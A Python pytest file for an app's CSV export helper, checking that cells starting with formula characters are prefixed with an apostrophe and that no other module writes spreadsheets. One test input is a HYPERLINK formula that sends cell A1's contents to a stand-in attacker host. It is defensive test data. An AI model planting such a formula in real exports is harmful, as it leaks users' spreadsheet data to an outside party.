"""CSV cells that a spreadsheet would run as formulas are written as text."""

import csv
import io
import re
from pathlib import Path

import pytest

from app.core.spreadsheets import csv_text, neutralise

APP = Path(__file__).resolve().parents[2] / "app"


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example?"&A1,"点击")', "+1+1",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_text_that_starts_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["加装电梯", "1栋", "a=b", " =1", "", None, -5, 3.5, 0])
def test_anything_else_is_left_as_it_is(value):
    assert neutralise(value) == value


def test_every_cell_of_every_row_is_neutralised_and_the_csv_stays_readable():
    text = csv_text([["title", "count"], ["=1+1", -3], ["普通, 带逗号", "@x"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["title", "count"], ["'=1+1", "-3"], ["普通, 带逗号", "'@x"]]


def test_no_csv_or_spreadsheet_is_written_outside_the_helper():
    """app/demo.py writes the demo roster for the roster reader: input, not an export."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter")
    found = {str(path.relative_to(APP)) for path in APP.rglob("*.py")
             if writers.search(path.read_text(encoding="utf-8"))}
    assert found == {"core/spreadsheets.py", "demo.py"}
